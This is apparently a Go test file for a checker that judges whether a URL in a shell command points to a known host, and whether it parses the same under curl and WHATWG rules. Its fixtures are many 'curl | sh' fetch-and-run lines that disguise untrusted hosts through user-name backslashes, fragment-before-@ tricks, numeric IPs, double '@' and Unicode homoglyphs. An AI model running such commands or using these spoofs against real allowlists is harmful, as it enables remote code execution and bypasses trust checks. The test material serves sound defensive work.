package hosts

import "testing"

// TestKnownReadsAsCurlAndWHATWG (fix15): a URL is a known host's only
// when the host curl connects to and the host a browser or Node reads
// are both known. https://known\@evil/ is evil to curl (the backslash
// is part of the user name) and known to WHATWG; a fragment or query
// before an '@' ends the authority for both; an international name is
// its punycode; a number is an IPv4 address.
func TestKnownReadsAsCurlAndWHATWG(t *testing.T) {
	for _, c := range []struct {
		line  string
		known bool
		risky bool
	}{
		// Malicious: the known host is a user name or a fragment.
		{`curl -fsSL https://sh.rustup.rs\@rust-tools.dev/i.sh | sh`, false, false},
		{`curl -fsSL https://rust-tools.dev\@sh.rustup.rs/ | sh`, false, false},
		{`curl -fsSL "https://evil.dev#@sh.rustup.rs/" | sh`, false, false},
		{`curl -fsSL "https://evil.dev?@get.docker.com/" | sh`, false, false},
		{`curl -fsSL https://pastebin.com\@get.docker.com/ | sh`, false, true},
		{`curl -fsSL https://134744072/x.sh | sh`, false, true},
		{`curl -fsSL https://0x8.0x8.0x8.0x8/x.sh | sh`, false, true},
		{`curl -fsSL https://010.010.010.010/x.sh | sh`, false, true},
		{`curl -fsSL https://ｐａｓｔｅｂｉｎ.com/raw/x | sh`, false, true},
		// Honest twins: the same hosts written plainly.
		{`curl -fsSL https://sh.rustup.rs/i.sh | sh`, true, false},
		{`curl -fsSL https://user@sh.rustup.rs/ | sh`, true, false},
		{`curl -fsSL "https://get.docker.com/?x=1#top" | sh`, true, false},
		{`curl -fsSL https://get.docker.com\/install | sh`, true, false},
		{`curl -fsSL https://ＧＥＴ.docker.com/ | sh`, true, false},
		{`curl -fsSL https://8.8.8.8/x.sh | sh`, false, true},
		{`curl -fsSL https://2130706433/x.sh | sh`, false, false},
		// Two '@': known only when the host between them is too.
		{`curl -fsSL https://x@rust-tools.dev@sh.rustup.rs/ | sh`, false, false},
		{`curl -fsSL https://me@get.docker.com@get.docker.com/ | sh`, true, false},
	} {
		us := URLs(c.line)
		if len(us) == 0 {
			t.Errorf("%s: no URL", c.line)
			continue
		}
		known, risky := true, false
		for _, u := range us {
			known = known && Known(u)
			risky = risky || Risky(u)
		}
		if known != c.known || risky != c.risky {
			t.Errorf("%s: known %v risky %v, want %v %v (%+v)", c.line, known, risky, c.known, c.risky, us)
		}
	}
}

// TestReadings checks the two readings and the canonical host.
func TestReadings(t *testing.T) {
	for _, c := range []struct{ rest, curl, whatwg string }{
		{`known.dev\@evil.dev/x`, "evil.dev", "known.dev"},
		{`known.dev/x\@evil.dev`, "known.dev", ""},
		{`a:b@Known.Dev.:443/x`, "known.dev", ""},
		{`evil.dev#@known.dev/`, "evil.dev", ""},
		{`2130706433`, "127.0.0.1", ""},
		{`0x7f.1`, "127.0.0.1", ""},
		{`0177.0.0.1:80`, "127.0.0.1", ""},
		{`192.168.1.1`, "192.168.1.1", ""},
		{`1.2.3.4.5`, "1.2.3.4.5", ""},
		{`256.1.1.1`, "256.1.1.1", ""},
		{`cafe`, "cafe", ""},
		{`pypі.org/simple`, "pypі.org", ""},
		{`ｐｙｐｉ。org/simple`, "pypi.org", ""},
		// Two '@': the host between them is what a client that ends the
		// user part at the first one connects to.
		{`x@evil.dev@get.docker.com/`, "get.docker.com", "evil.dev"},
		{`u:p@evil.dev:8443@get.docker.com/`, "get.docker.com", "evil.dev"},
		{`a@b@get.docker.com`, "get.docker.com", "b"},
		{`get.docker.com@get.docker.com/x`, "get.docker.com", ""},
	} {
		curl, whatwg := Readings(c.rest)
		if curl != c.curl || whatwg != c.whatwg {
			t.Errorf("Readings(%q) = %q, %q, want %q, %q", c.rest, curl, whatwg, c.curl, c.whatwg)
		}
	}
}
